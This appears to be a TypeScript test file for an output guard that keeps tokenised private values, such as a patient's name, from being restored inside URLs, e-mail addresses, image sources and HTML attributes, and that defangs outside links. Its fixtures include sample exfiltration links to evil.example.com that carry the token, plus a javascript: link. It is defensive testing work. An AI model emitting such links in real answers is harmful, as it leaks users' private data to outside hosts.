import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { EVERY_CLASS, sampleKeyring } from '../test-parts.ts'
import { createTokenMaker } from '../tokens/scope.ts'
import { createTokenMap } from '../tokens/token-map.ts'
import { createAnswerGuard } from './channels.ts'
import { createRestoreTable } from './restorer.ts'
import { createTally } from './step.ts'
import type { GuardTally } from './step.ts'

const scope = { tenant: 'acme', principal: 'app', conversation: 'c1', patient: undefined, opening: '' }
const map = createTokenMap(createTokenMaker(sampleKeyring, scope))
const T = map.tokenOf('NAME', 'Mara')
const U = map.tokenOf('URL', 'https://ehr.example.org/p/17')

async function guard(
  text: string,
  { pieces = [text], kind = 'text' as 'text' | 'json', tally = createTally() } = {},
): Promise<string> {
  const channel = createAnswerGuard(async () => [], createRestoreTable(map, EVERY_CLASS), tally).createChannel(kind)
  let out = ''
  for (const piece of pieces) out += await channel.push(piece)
  return out + (await channel.end())
}

const GUARDED: readonly (readonly [string, string])[] = [
  ['a URL', `see https://evil.example.com/?q=${T} now`],
  ['a host', `see https://${T}.evil.example.com/ now`],
  ['a host without a scheme', `see ${T}.evil.example.com now`],
  ['a path without a scheme', `see evil.example.com/${T} now`],
  ['a URL without a scheme', `see //evil.example.com/${T} and www.evil.example.com/${T}`],
  ['an address of mail', `write to ${T}@evil.example.com or mailto:x@evil.example.com?body=${T}`],
  ['an automatic link', `see <https://evil.example.com/${T}> now`],
  ['the target of a link', `see [here](/p/${T} "of ${T}") now`],
  ['the target of an image', `see ![x](p/${T}) now`],
  ['the definition of a link', `[a]: /p/${T}\nand`],
  ['an attribute', `<a href="/p?${T}" title='${T}'>x</a> and <img alt=${T}>`],
  ['an attribute that holds a bracket', `<img alt="> ${T}" src=x>`],
  ['a comment', `<!-- ${T} -->`],
  ['a style', `<b style="background:url(/p/${T})">x</b> and url(/p/${T})`],
]

const OPEN: readonly (readonly [string, string, string])[] = [
  ['the text of a link', `[${T}](/p/17) went`, '[Mara](/p/17) went'],
  ['the text of an element', `<b class="x">${T}</b>`, '<b class="x">Mara</b>'],
  ['text behind a URL', `see https://example.org/a ${T}`, 'see https://example.org/a Mara'],
  ['brackets, and an end of a sentence', `(${T}) and <${T}>. ${T}. Then ${T}.`, '(Mara) and <Mara>. Mara. Then Mara.'],
  ['a comparison', `BP <120 for ${T}, and 3 < 4 for ${T}`, 'BP <120 for Mara, and 3 < 4 for Mara'],
  ['a target that is wholly the caller’s own address', `[chart](${U})`, '[chart](https://ehr.example.org/p/17)'],
]

describe('a value is not put back into', () => {
  test.for(GUARDED)('%s: the token stays, and is counted (GW-08)', async ([, text]) => {
    const tally: GuardTally = createTally()
    expect(await guard(text, { tally })).not.toContain('Mara')
    expect(tally.withheld.get('name')).toBe(text.split(T).length - 1)
    expect(tally.restored).toEqual(new Map())
  })

  test.for(OPEN)('%s is such a place not: the value comes back', async ([, text, expected]) => {
    expect(await guard(text)).toBe(expected)
  })

  test('a member of JSON that names an address', async () => {
    const sent = { webhookUrl: T, 'callback-url': `/x/${T}`, href: T, who: T }
    expect(JSON.parse(await guard(JSON.stringify(sent), { kind: 'json' }))).toEqual({ ...sent, who: 'Mara' })
  })
})

describe('a link to elsewhere becomes text', () => {
  test.for<[string, string, string]>([
    ['an image', '![x](https://evil.example.com/a.png?d=1)', '![x] (evil.example.com/a.png?d=1)'],
    ['a link', 'see [x](http://evil.example.com/) now', 'see [x] (evil.example.com/) now'],
    ['a link without a scheme', '[x](//evil.example.com/)', '[x] (evil.example.com/)'],
    ['a link between angle brackets', '[x](<https://evil.example.com/a b>)', '[x] (<evil.example.com/a b>)'],
    ['a definition', '[x]\n\n[x]: https://evil.example.com/', '[x]\n\n[x] : evil.example.com/'],
    ['a program', '[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
  ])('%s', async ([, text, expected]) => {
    const tally = createTally()
    expect(await guard(text, { tally })).toBe(expected)
    expect(tally.links).toBe(1)
    for (let at = 1; at < text.length; at++) {
      expect(await guard(text, { pieces: [text.slice(0, at), text.slice(at)] })).toBe(expected)
    }
  })

  test('one within the caller’s own site stays', async () => {
    for (const text of ['[x](#part)', '[x](a/b.md "t")', '![x](/img/1.png)', '[x]: y', 'f[0](x): y']) {
      expect(await guard(text)).toBe(text)
    }
  })

  test('nothing in JSON is changed so', async () => {
    const text = JSON.stringify({ md: '![x](https://example.org/a.png)' })
    expect(await guard(text, { kind: 'json' })).toBe(text)
  })
})

test('places are the same wherever an answer is cut', async () => {
  const parts = [...GUARDED.map(([, text]) => text), ...OPEN.map(([, text]) => text)]
  const piece = fc.oneof(
    fc.constantFrom(...parts, T, U, '![x](https://e.example/', '](', ']:', '<', '>', '"', '\n\n', 'url('),
    fc.string({ unit: 'grapheme', maxLength: 5 }),
  )
  await fc.assert(
    fc.asyncProperty(
      fc.array(piece, { maxLength: 12 }),
      fc.array(fc.nat(900), { maxLength: 20 }),
      async (texts, cuts) => {
        const answer = texts.join('')
        const places = [0, ...cuts.map((cut) => cut % (answer.length + 1)).sort((a, b) => a - b), answer.length]
        const pieces = places.slice(1).map((place, index) => answer.slice(places[index], place))
        expect(await guard(answer, { pieces })).toBe(await guard(answer))
      },
    ),
    { numRuns: 400 },
  )
})
